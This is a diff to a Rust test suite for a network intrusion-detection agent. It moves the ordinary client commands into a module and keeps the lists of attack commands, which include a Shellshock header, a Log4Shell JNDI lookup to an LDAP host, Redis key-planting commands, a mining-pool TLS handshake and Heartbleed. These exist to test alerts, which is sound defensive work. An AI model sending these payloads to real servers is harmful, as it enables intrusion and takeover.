@@ -1,10 +1,8 @@
 //! The starter rules against real servers and clients: ordinary use of a server is silent, and an
 //! attack on it is told with both names and what was said.
 
-mod servers;
-
-use anyhow::{Context as _, Result, ensure};
-use hydrophone_tests::{Agent, Container, Engine, Event, Options};
+use anyhow::{Result, ensure};
+use hydrophone_tests::{Agent, Container, Engine, Event, Options, ordinary, servers};
 
 /// An alert that must come: rule, the two ends, the protocol, and a text in the event.
 struct Expected {
@@ -84,32 +82,20 @@ fn assert_told(agent: &Agent, all: &[Expected]) -> Result<()> {
     Ok(())
 }
 
-/// Runs shell lines in a container, in which `{NAME}` is the address of the server of that name.
-fn lines(from: &Container<'_>, servers: &[&Container<'_>], lines: &[&str]) -> Result<()> {
-    for line in lines {
-        let mut line = (*line).to_owned();
-        for server in servers {
-            line = line.replace(&format!("{{{}}}", server.name()), server.ipv4());
-        }
-        from.shell(&line).with_context(|| line.clone())?;
-    }
-    Ok(())
-}
-
 /// The course of each test: an ordinary client, then an attacker.
 fn check(
     engine: &Engine,
     servers: &[&Container<'_>],
-    ordinary: &[&str],
+    ordinary: &[String],
     attacks: &[&str],
     expected: &[Expected],
 ) -> Result<()> {
     let client = engine.run_idle("client", &[])?;
     let attacker = engine.run_idle("attacker", &[])?;
     let agent = Agent::start(&Options::new(engine))?;
-    lines(&client, servers, ordinary)?;
+    ordinary::run(&client, servers, ordinary)?;
     assert_silent(&agent, servers)?;
-    lines(&attacker, servers, attacks)?;
+    ordinary::run(&attacker, servers, attacks)?;
     assert_told(&agent, expected)?;
     agent.stop()?;
     Ok(())
@@ -185,16 +171,6 @@ fn web_servers_and_platforms() -> Result<()> {
         servers::docker_api(&engine)?,
         servers::tls(&engine)?,
     ];
-    let ordinary = [
-        "curl -sf http://{nginx}/etc/hostname",
-        "curl -sfk --compressed https://{nginx}/etc/hostname",
-        "curl -sf -A 'Mozilla/5.0' 'http://{nginx}/etc/hostname?q=select+a+union&x=%7Bid%7D' -H 'Cookie: a=${b}'",
-        "busybox wget -q -O /dev/null http://{nginx}/etc/group",
-        "curl -sf --http2-prior-knowledge http://{nghttpd}:8080/hostname",
-        "curl -sf http://{etcd}:2379/health",
-        "curl -sf http://{etcd}:2379/v3/kv/put -d '{\"key\":\"YQ==\",\"value\":\"Yg==\"}'",
-        "echo | openssl s_client -connect {nginx}:443 -servername web.example.org",
-    ];
     let attacks = [
         "curl -s -o /dev/null -A '() { :;}; /bin/id' http://{nginx}/",
         "curl -s -o /dev/null -H 'X-Api: ${${lower:j}n${::-d}i:ldap://10.0.0.9/a}' http://{nginx}/",
@@ -215,7 +191,7 @@ fn web_servers_and_platforms() -> Result<()> {
         "echo | openssl s_client -tls1_2 -connect {tls}:443 -servername gulf.moneroocean.stream",
         &format!("python3 -c '{HEARTBLEED}' {{tls}}"),
     ];
-    check(&engine, &all.each_ref(), &ordinary, &attacks, WEB)
+    check(&engine, &all.each_ref(), &ordinary::web(), &attacks, WEB)
 }
 
 #[test]
@@ -226,14 +202,6 @@ fn data_stores() -> Result<()> {
         "{}/psql -q -U nobody -h {{postgres}} postgres",
         servers::postgres_programs()?.display()
     );
-    let ordinary = [
-        "redis-cli -h {redis} set key value",
-        "redis-cli -h {redis} config get maxmemory",
-        "redis-cli -h {redis} config set maxmemory 100mb",
-        "redis-benchmark -h {redis} -n 2000 -q -t set,get,lpush",
-        &format!("{psql} -c 'CREATE TABLE t (a text)' -c \"INSERT INTO t VALUES ('program')\""),
-        &format!("printf 'a\\nb\\n' | {psql} -c 'COPY t FROM STDIN' -c 'COPY t TO STDOUT'"),
-    ];
     let attacks = [
         "redis-cli -h {redis} config set dir /root",
         "redis-cli -h {redis} config set maxmemory 0 dbfilename authorized_keys",
@@ -252,14 +220,16 @@ fn data_stores() -> Result<()> {
         on("postgres", 7_000_056, "", ("", "")),
         by("postgres", 7_000_063, "", ("", "")),
     ];
-    check(&engine, &all.each_ref(), &ordinary, &attacks, &expected)
+    check(
+        &engine,
+        &all.each_ref(),
+        &ordinary::data_stores()?,
+        &attacks,
+        &expected,
+    )
 }
 
-/// Mail, as a program sends it; then what a sender and a recipient may not be called.
-const MAIL: &str = "import smtplib, sys
-with smtplib.SMTP(sys.argv[1]) as mail:
-    mail.sendmail('a@example.org', ['b@example.org'], 'Subject: ${total}\\r\\n\\r\\nrun; it\\r\\n')
-";
+/// What a sender and a recipient may not be called.
 const MAIL_ATTACK: &str = "import smtplib, sys
 with smtplib.SMTP(sys.argv[1]) as mail:
     mail.ehlo()
@@ -335,22 +305,6 @@ fn names_mail_files_and_shells() -> Result<()> {
         servers::samba(&engine)?,
         servers::sshd(&engine)?,
     ];
-    let key = all[4].shell("cat /root/.ssh/id")?.stdout;
-    let ssh = format!(
-        "echo '{key}' > /tmp/id; chmod 600 /tmp/id; ssh -i /tmp/id -o StrictHostKeyChecking=no \
-         -o UserKnownHostsFile=/dev/null root@{{sshd}} id"
-    );
-    let ordinary = [
-        "dig +short web.test @{dnsmasq}",
-        "dig +short -x 198.18.0.9 @{dnsmasq}",
-        "dig +short +tcp web.test AAAA @{dnsmasq}",
-        "dig +short _http._tcp.web.test SRV @{dnsmasq}",
-        &format!("python3 -c \"{MAIL}\" {{smtp}}"),
-        "echo text > /tmp/text; curl -s -T /tmp/text ftp://{ftp}/; curl -s ftp://{ftp}/text",
-        "smbclient -N -s /dev/null //{samba}/data -c 'put /tmp/text text; dir; get text /tmp/again'",
-        "smbclient -N -s /dev/null -L {samba}",
-        &ssh,
-    ];
     let attacks = [
         "dig axfr test @{dnsmasq}",
         "dig -t null x.test @{dnsmasq}",
@@ -363,5 +317,11 @@ fn names_mail_files_and_shells() -> Result<()> {
         "net -s /dev/null rpc service list -U% -I {samba}",
         "nmap -n -Pn -p22 --script ssh-hostkey {sshd}",
     ];
-    check(&engine, &all.each_ref(), &ordinary, &attacks, NAMES)
+    check(
+        &engine,
+        &all.each_ref(),
+        &ordinary::names_mail_files_and_shells(&all[4])?,
+        &attacks,
+        NAMES,
+    )
 }
